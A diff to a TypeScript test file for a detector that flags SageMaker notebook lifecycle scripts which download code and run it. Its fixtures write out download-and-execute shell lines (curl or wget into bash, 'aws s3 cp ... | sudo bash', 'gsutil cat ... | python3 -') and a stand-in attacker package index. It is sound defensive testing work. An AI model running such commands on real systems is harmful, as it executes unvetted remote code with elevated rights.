@@ -13,8 +13,9 @@ const RULE = 'platform.notebook_exposure';
 const b64 = (s: string) => Buffer.from(s).toString('base64');
 const ACCOUNT = '111122223333';
 let n = 0;
+// One second apart, in the order made: replay orders by time (minutes counted modulo 60 wrapped once tests grew).
 const rec = (op: string, params: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
-  NormalizedEvent.parse(normOne(ctRecord(op, params, { eventID: `nb-${++n}`, eventTime: `2026-11-25T10:${String(n % 60).padStart(2, '0')}:00Z`, ...extra })));
+  NormalizedEvent.parse(normOne(ctRecord(op, params, { eventID: `nb-${++n}`, eventTime: new Date(Date.parse('2026-11-25T10:00:00Z') + n * 1000).toISOString(), ...extra })));
 const who = (role: string, session: string) => ({
   userIdentity: {
     type: 'AssumedRole', principalId: `AROAEXAMPLE:${session}`, arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${role}/${session}`, accountId: ACCOUNT,
@@ -52,7 +53,7 @@ describe('notebook lifecycle scripts', () => {
       lifecycle_scripts: true, script_hooks: ['on_start'],
       script_code_uris: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'],
       // The agent copied from S3 and run by the next command is run unread too.
-      script_piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'],
+      script_piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'],
       script_package_sources: ['https://pypi.attacker.example/simple'],
       script_secret_in: ['on_start'],
     });
@@ -88,12 +89,12 @@ describe('notebook lifecycle scripts', () => {
     const ev = rec('CreateStudioLifecycleConfig', { studioLifecycleConfigName: 'jl-setup', studioLifecycleConfigContent: b64(ATTACK), studioLifecycleConfigAppType: 'JupyterLab' }, {
       responseElements: { studioLifecycleConfigArn: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:studio-lifecycle-config/jl-setup` },
     });
-    expect(ev.details).toMatchObject({ script_hooks: ['studio'], script_piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'], script_secret_in: ['studio'] });
+    expect(ev.details).toMatchObject({ script_hooks: ['studio'], script_piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'], script_secret_in: ['studio'] });
     expect(JSON.stringify(ev.raw)).not.toContain('wJalrXUtnFEMI');
     expect((ev.raw as { requestParameters: Record<string, unknown> }).requestParameters.studioLifecycleConfigContent).toBe('[redacted]');
     const [a, ...more] = alertsOf([ev]);
     expect(more).toEqual([]);
-    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', lifecycle_config: 'jl-setup', piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'] });
+    expect(a!.details).toMatchObject({ finding: 'untrusted_lifecycle_script', lifecycle_config: 'jl-setup', piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'] });
   });
 
   it('alert on a download piped into a shell and a foreign package index by default; other downloads once trusted_code_locations is set', () => {
@@ -101,11 +102,11 @@ describe('notebook lifecycle scripts', () => {
     expect(more).toEqual([]);
     expect(a!.entity).toMatchObject({ type: 'notebook_instance_lifecycle_config', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance-lifecycle-config/lc-tools` });
     expect(a!.details).toMatchObject({
-      piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'], package_sources: ['https://pypi.attacker.example/simple'],
-      code_uris: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'],
+      piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'], package_sources: ['https://pypi.attacker.example/simple'],
+      code_uris: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'],
     });
     const rules = { [RULE]: { trusted_code_locations: ['s3://ml-platform-code/*'] } };
-    expect(alertsOf([lifecycle('lc-tools', ATTACK)], rules)[0]!.details?.code_uris).toEqual(['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2']);
+    expect(alertsOf([lifecycle('lc-tools', ATTACK)], rules)[0]!.details?.code_uris).toEqual(['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh']);
     // The team's script from its trusted bucket, PyPI: nothing, with or without the list.
     expect(alertsOf([lifecycle('lc-team', TEAM)], rules)).toEqual([]);
     expect(alertsOf([lifecycle('lc-team', TEAM)])).toEqual([]);
@@ -127,6 +128,12 @@ describe('download-then-run in lifecycle scripts', () => {
     expect(piped('#!/bin/bash\ncurl -sSLO https://tools.example.net/setup.sh\nsudo -u ec2-user -i bash ./setup.sh --quiet')).toEqual(['https://tools.example.net/setup.sh']);
     expect(piped('#!/bin/bash\nwget -q -P /opt/t https://tools.example.net/boot.py\nnohup python3 /opt/t/boot.py &')).toEqual(['https://tools.example.net/boot.py']);
     expect(piped('#!/bin/bash\ngit clone https://github.com/someone/nb-tools.git /opt/nb-tools\ncd /opt/nb-tools && ./install.sh')).toEqual(['https://github.com/someone/nb-tools.git']);
+    // Saved by a redirection or tee, or in a `bash -c` string; a cloud object written to stdout and piped into a shell.
+    expect(piped('#!/bin/bash\ncurl -fsSL https://tools.example.net/i.sh > /tmp/i.sh\nbash /tmp/i.sh')).toEqual(['https://tools.example.net/i.sh']);
+    expect(piped('#!/bin/bash\ncurl -s https://tools.example.net/a | tee /tmp/a.sh >/dev/null; sh /tmp/a.sh')).toEqual(['https://tools.example.net/a']);
+    expect(piped("#!/bin/bash\nsudo -u ec2-user -i bash -c 'wget -q https://tools.example.net/s.sh -O /tmp/s.sh && bash /tmp/s.sh'")).toEqual(['https://tools.example.net/s.sh']);
+    expect(piped('#!/bin/bash\naws s3 cp s3://scratch-share-9931/x.sh - | sudo bash')).toEqual(['s3://scratch-share-9931/x.sh']);
+    expect(piped('#!/bin/bash\ngsutil cat gs://scratch-share/boot.py | python3 -')).toEqual(['gs://scratch-share/boot.py']);
     // A package fetched and installed (pip runs its build).
     expect(piped('#!/bin/bash\ncurl -sL https://tools.example.net/helper-1.0.tar.gz -o /tmp/w/helper-1.0.tar.gz\npip install /tmp/w/*.tar.gz')).toEqual(['https://tools.example.net/helper-1.0.tar.gz']);
   });
@@ -134,6 +141,7 @@ describe('download-then-run in lifecycle scripts', () => {
     expect(piped('#!/bin/bash\ncurl -o /etc/jupyter/conf.json https://config.example.net/conf.json && python3 /opt/app.py --config /etc/jupyter/conf.json')).toBeUndefined();
     expect(piped('#!/bin/bash\naws s3 cp s3://ml-platform-code/env.sh /tmp/env.sh\ncat /tmp/env.sh\nbash /opt/other.sh')).toBeUndefined();
     expect(alertsOf([lifecycle('lc-conf', '#!/bin/bash\ncurl -o /etc/jupyter/conf.json https://config.example.net/conf.json')])).toEqual([]);
+    expect(piped('#!/bin/bash\ncurl -s https://config.example.net/conf.json > /etc/jupyter/conf.json 2>/dev/null\naws s3 cp s3://ml-platform-code/data.csv - | head')).toBeUndefined();
     const pipDl = lifecycle('lc-pip', '#!/bin/bash\npip download -i https://pypi.attacker.example/simple jupyter-helpers -d /tmp/w && pip install --no-index --find-links /tmp/w jupyter-helpers');
     expect(alertsOf([pipDl]).map((a) => a.details?.package_sources)).toEqual([['https://pypi.attacker.example/simple']]);
   });
@@ -200,7 +208,7 @@ describe('notebook instances', () => {
     expect(alerts[1]!.entity).toMatchObject({ type: 'notebook_instance', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:notebook-instance/nb-team` });
     expect(alerts[1]!.details).toMatchObject({
       finding: 'untrusted_lifecycle_script', operation: 'UpdateNotebookInstance', attached_to: 'notebook instance nb-team', lifecycle_config: 'lc-tools',
-      piped_to_shell: ['s3://scratch-share-9931/tools/agent.sh', 'https://paste.example.net/raw/a1b2'], package_sources: ['https://pypi.attacker.example/simple'],
+      piped_to_shell: ['https://paste.example.net/raw/a1b2', 's3://scratch-share-9931/tools/agent.sh'], package_sources: ['https://pypi.attacker.example/simple'],
     });
     // At creation too; an update of the configuration to clean scripts makes the next attachment quiet.
     expect(alertsOf([lc, create('nb-new', { subnetId: 'subnet-0abc', rootAccess: 'Disabled', lifecycleConfigName: 'lc-tools' })]).map((a) => a.details?.attached_to)).toEqual([undefined, 'notebook instance nb-new']);
